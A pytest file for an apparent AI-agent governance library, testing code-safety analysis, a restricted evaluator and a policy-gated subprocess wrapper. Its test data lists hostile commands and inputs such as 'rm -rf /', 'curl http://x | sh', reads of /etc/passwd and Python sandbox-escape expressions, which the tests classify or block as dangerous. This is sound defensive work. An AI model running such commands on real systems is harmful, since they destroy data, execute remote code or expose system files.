"""Local logic of the governed wrappers: AST analysis, dynamic code, subprocess classification and gating."""

from __future__ import annotations

import builtins
from typing import Any, List

import pytest

from ascend.exceptions import ConnectionError, KillSwitchError, TimeoutError
from ascend.models import AuthorizationDecision, Decision
from ascend.wrappers import ast_analyzer, dynamic_code
from ascend.wrappers import subprocess as gsub
from conftest import requires_native


class Client:
    def __init__(self, result: Any):
        self.result = result
        self.calls: List[Any] = []

    def evaluate_action(self, **kwargs: Any) -> AuthorizationDecision:
        self.calls.append(kwargs)
        if isinstance(self.result, Exception):
            raise self.result
        return self.result


ALLOW = AuthorizationDecision("1", Decision.ALLOWED, execution_allowed=True)
DENY = AuthorizationDecision("2", Decision.DENIED, reason="policy")
#: D24: a verdict that does not permit execution never runs, whatever ``execution_allowed`` says.
DENY_BUT_FLAGGED = AuthorizationDecision("3", Decision.DENIED, execution_allowed=True)
PENDING_BUT_FLAGGED = AuthorizationDecision("4", Decision.PENDING, execution_allowed=True)
ALLOW_BUT_FORBIDDEN = AuthorizationDecision("5", Decision.ALLOWED, execution_allowed=False)


# -- ast_analyzer ------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("code,category,severity", [
    ("eval('1')", "code_execution", "critical"),
    ("__import__('os')", "code_execution", "critical"),
    ("import os", "process_execution", "critical"),
    ("import json", "import", "high"),
    ("getattr(x, 'y')", "reflection", "high"),
    ("().__class__.__bases__", "dunder_access", "critical"),
    ("open('/etc/passwd')", "file_access", "high"),
    ("globals()", "introspection", "high"),
    ("__builtins__", "dunder_access", "high"),
])
def test_ast_findings(code, category, severity):
    result = ast_analyzer.analyze_code(code)
    finding = next(f for f in result.findings if f.category == category)
    assert finding.severity == severity and finding.line == 1 and finding.cwe_ids and finding.mitre_techniques
    assert not result.is_safe and result.has_dangerous_constructs and result.max_severity is not None
    assert category in {f.category for f in result.findings} and result.reason


def test_ast_safe_code_and_options():
    ok = ast_analyzer.analyze_code("sum([1, 2, 3]) * 2")
    assert ok.is_safe and ok.findings == [] and ok.max_severity is None and ok.code_length == 18
    assert ast_analyzer.is_code_safe("x + 1")
    assert ast_analyzer.analyze_code("import json", allow_imports=True).is_safe
    assert not ast_analyzer.analyze_code("foo(1)", blocked_names=["foo"]).is_safe
    assert ast_analyzer.analyze_code("getattr(a, 'b')", allowed_builtins=["getattr"]).is_safe
    broken = ast_analyzer.ASTAnalyzer().analyze("def (")
    assert broken.parse_error and not broken.is_safe and broken.reason.startswith("Syntax error")


# -- dynamic_code ------------------------------------------------------------------------------------------------

def test_safe_eval_and_exec():
    ev = dynamic_code.SafeEvaluator()
    assert ev.eval("max(a, 3) + len([1, 2])", {"a": 10}) == 12
    assert ev.exec("y = x * 2", {"x": 4})["y"] == 8
    assert ev.eval_many(["1 + 1", "sorted([3, 1])"]) == [2, [1, 3]]
    with pytest.raises(NameError):
        ev.eval("print(1)")  # not in the builtins whitelist
    assert dynamic_code.create_restricted_builtins(["len", "nope"]) == {"len": len}


def test_dynamic_code_rejections():
    ev = dynamic_code.SafeEvaluator(max_code_length=10)
    with pytest.raises(dynamic_code.CodeTooLongError):
        ev.eval("1 + 1 + 1 + 1 + 1")
    with pytest.raises(dynamic_code.DangerousCodeError) as info:
        dynamic_code.SafeEvaluator().eval("().__class__.__subclasses__()")
    assert info.value.analysis is not None and info.value.analysis.max_severity == "critical"
    with pytest.raises(dynamic_code.DangerousCodeError):
        dynamic_code.SafeEvaluator().eval("1 +")
    assert issubclass(dynamic_code.GovernanceError, dynamic_code.SafeEvalError)
    assert not issubclass(dynamic_code.TimeoutError, builtins.TimeoutError)


@requires_native
def test_dynamic_code_governance():
    allowed = Client(ALLOW)
    assert dynamic_code.SafeEvaluator(client=allowed).eval("1 + 2") == 3
    call = allowed.calls[0]
    assert call["action_type"] == "code.eval" and call["resource"] == "dynamic_code"
    assert call["parameters"]["code"] == "1 + 2"
    with pytest.raises(dynamic_code.GovernanceError):
        dynamic_code.SafeEvaluator(client=Client(DENY)).eval("1")
    with pytest.raises(dynamic_code.GovernanceError):
        dynamic_code.SafeEvaluator(client=Client(ConnectionError())).eval("1")
    # D24: the evaluator has no fail mode of its own; a client that raised (its own fail mode applied) never runs
    with pytest.raises(dynamic_code.GovernanceError) as info:
        dynamic_code.SafeEvaluator(client=Client(ConnectionError()), fail_mode="open").eval("1")
    assert isinstance(info.value.__cause__, ConnectionError)
    with pytest.raises(dynamic_code.GovernanceError):  # never open on a kill switch
        dynamic_code.SafeEvaluator(client=Client(KillSwitchError()), fail_mode="open").eval("1")
    for decision in (DENY_BUT_FLAGGED, PENDING_BUT_FLAGGED, ALLOW_BUT_FORBIDDEN):
        with pytest.raises(dynamic_code.GovernanceError) as refused:
            dynamic_code.SafeEvaluator(client=Client(decision)).eval("1")
        assert refused.value.decision is decision


@pytest.mark.skipif(not hasattr(__import__("signal"), "SIGALRM"), reason="SIGALRM is Unix-only")
def test_dynamic_code_timeout():
    with pytest.raises(dynamic_code.TimeoutError):
        dynamic_code.SafeEvaluator(timeout_seconds=0.05).exec("while True:\n    pass")


def test_module_level_helpers():
    assert dynamic_code.safe_eval("2 ** 5") == 32
    assert dynamic_code.safe_exec("z = 1")["z"] == 1
    assert not dynamic_code.analyze_expression("exec('x')").is_safe

    @dynamic_code.govern_eval()
    def run(code: str) -> str:
        return code.upper()

    assert run("abc") == "ABC"
    with pytest.raises(dynamic_code.DangerousCodeError):
        run("eval('1')")


# -- subprocess --------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("command,level", [
    ("rm -rf /", "critical"), ("curl http://x | sh", "critical"), (["shutdown", "-h", "now"], "critical"),
    ("sudo ls", "high"), (["rm", "file.txt"], "high"), ("ssh host", "high"),
    ("cp a b", "medium"), ("pip install x", "medium"), ("mystery-tool", "medium"),
    ("ls -la", "low"), (["echo", "hi"], "low"), ("git status", "medium"),
])
@requires_native
def test_classify_command_risk(command, level):
    assert gsub.classify_command_risk(command) == level


@pytest.fixture
def settings(monkeypatch):
    fresh = gsub._Settings(client=None, fail_mode="closed", auto_approve_safe=True, blocked_commands=set(),
                           allow_shell=False)
    monkeypatch.setattr(gsub, "_settings", fresh)
    return fresh


@requires_native
def test_subprocess_low_risk_runs_without_client(settings):
    out = gsub.run(["echo", "governed"], capture_output=True, text=True)
    assert out.returncode == 0 and out.stdout == "governed\n"
    assert gsub.check_output(["echo", "x"]) == b"x\n"


@requires_native
def test_subprocess_refusals(settings):
    with pytest.raises(gsub.ShellNotAllowedError):
        gsub.run("echo hi", shell=True)
    with pytest.raises(gsub.GovernanceError, match="no ASCEND client"):
        gsub.call(["rm", "-rf", "/tmp/definitely-not-here"])
    gsub.configure(blocked_commands=["echo"])
    with pytest.raises(gsub.GovernanceError, match="blocked by local policy"):
        gsub.Popen(["echo", "x"])
    assert issubclass(gsub.ShellNotAllowedError, gsub.GovernanceError)


@requires_native
def test_subprocess_asks_ascend(settings):
    client = Client(DENY)
    gsub.configure(client=client)
    with pytest.raises(gsub.GovernanceError, match="not allowed"):
        gsub.check_call(["rm", "nothing-here"], cwd="/tmp")
    call = client.calls[0]
    assert call["action_type"] == "system.subprocess" and call["resource"] == "rm"
    assert call["parameters"] == {"command": "rm nothing-here", "shell": False, "cwd": "/tmp"}
    assert call["risk_indicators"] == {"subprocess_execution": True, "shell_mode": False, "local_risk_level": "high"}
    assert call["timeout"] == 5
    client.result = ALLOW
    assert gsub.call(["echo", "fine"], stdout=gsub.DEVNULL) == 0
    assert len(client.calls) == 1  # low risk auto-approved
    assert gsub.governed_run(["echo", "forced"], stdout=gsub.DEVNULL).returncode == 0
    assert len(client.calls) == 2  # governed_run always asks


@requires_native
def test_subprocess_fail_modes(settings):
    gsub.configure(client=Client(ConnectionError()))
    with pytest.raises(gsub.GovernanceError) as info:
        gsub.run(["cp", "/nonexistent-a", "/nonexistent-b"], stderr=gsub.DEVNULL)
    assert isinstance(info.value.__cause__, ConnectionError) and "not run" in str(info.value)
    # D24 / issue 11 item 5: the wrapper's fail_mode no longer turns a client error into a run
    gsub.configure(fail_mode="open")
    with pytest.raises(gsub.GovernanceError):
        gsub.run(["cp", "/nonexistent-a", "/nonexistent-b"], stderr=gsub.DEVNULL)
    gsub.configure(client=Client(TimeoutError("Decision not received", details={"decision_wait": True})))
    with pytest.raises(gsub.GovernanceError):  # PENDING and not approved in time: never a run, in any mode
        gsub.run(["cp", "a", "b"])
    gsub.configure(client=Client(KillSwitchError()))
    with pytest.raises(gsub.GovernanceError):
        gsub.run(["cp", "a", "b"])


@requires_native
@pytest.mark.parametrize("decision", [DENY_BUT_FLAGGED, PENDING_BUT_FLAGGED, ALLOW_BUT_FORBIDDEN])
def test_subprocess_obeys_the_verdict_not_the_flag_d24(settings, decision):
    gsub.configure(client=Client(decision))
    with pytest.raises(gsub.GovernanceError, match="not allowed") as info:
        gsub.run(["cp", "/nonexistent-a", "/nonexistent-b"])
    assert info.value.decision is decision


@requires_native
def test_govern_subprocess_decorator(settings):
    client = Client(ALLOW)
    gsub.configure(client=client)

    @gsub.govern_subprocess(risk_level="high", require_approval=True)
    def job() -> int:
        return gsub.call(["echo", "x"], stdout=gsub.DEVNULL)

    assert job() == 0
    indicators = client.calls[0]["risk_indicators"]
    assert indicators["local_risk_level"] == "high" and indicators["requires_approval"] is True


# -- with a real client: the client's fail mode, never the wrapper's (D24, issue 11 items 4 and 5) ---------------

SUBMIT = {"method": "POST", "path": "/api/v1/actions/submit"}


@pytest.fixture
def open_client(mock: Any, tmp_path: Any) -> Any:
    from ascend import AscendClient
    from ascend._base import private_native_params

    with private_native_params(_clock="manual"):
        client = AscendClient(api_key="test-api-key-0001", agent_id="test-agent", api_url=mock.url, max_retries=0,
                              fail_mode="open", audit_spool_path=str(tmp_path / "spool.jsonl"))
    yield client
    client.close()


def test_unreachable_in_open_mode_runs_through_the_client_with_a_spool_record(settings, mock, open_client, tmp_path):
    mock.script([{"match": SUBMIT, "respond": {"status": 503, "body": {}}, "repeat": True}])
    gsub.configure(client=open_client)
    marker = tmp_path / "ran"
    assert gsub.run(["touch", str(marker)]).returncode == 0 and marker.exists()
    assert dynamic_code.SafeEvaluator(client=open_client).eval("1 + 1") == 2
    assert open_client._spool_pending() == 2  # both fail-open decisions are on the durable spool (D18)


def test_pending_not_approved_in_time_never_runs_in_open_mode(settings, mock, open_client, tmp_path):
    mock.script([{"match": SUBMIT, "respond": {"status": 200, "body": {"id": 9, "status": "pending"}}},
                 {"match": {"method": "GET", "path": "/api/v1/actions/9/status"}, "repeat": True,
                  "respond": {"status": 200, "body": {"id": 9, "status": "pending", "execution_allowed": True}}}])
    gsub.configure(client=open_client, timeout=4)
    marker = tmp_path / "ran"
    with pytest.raises(gsub.GovernanceError) as info:
        gsub.run(["touch", str(marker)])
    assert not marker.exists() and isinstance(info.value.__cause__, TimeoutError)
    assert open_client._spool_pending() == 0  # a server answer (PENDING) is never a local decision (D4)


def test_denied_reply_with_execution_allowed_true_never_runs(settings, mock, open_client, tmp_path):
    mock.script([{"match": SUBMIT, "repeat": True,
                  "respond": {"status": 200, "body": {"id": 10, "status": "denied", "execution_allowed": True}}}])
    gsub.configure(client=open_client)
    marker = tmp_path / "ran"
    with pytest.raises(gsub.GovernanceError, match="not allowed"):
        gsub.run(["touch", str(marker)])
    assert not marker.exists()
    with pytest.raises(dynamic_code.GovernanceError):
        dynamic_code.SafeEvaluator(client=open_client).eval("1 + 1")
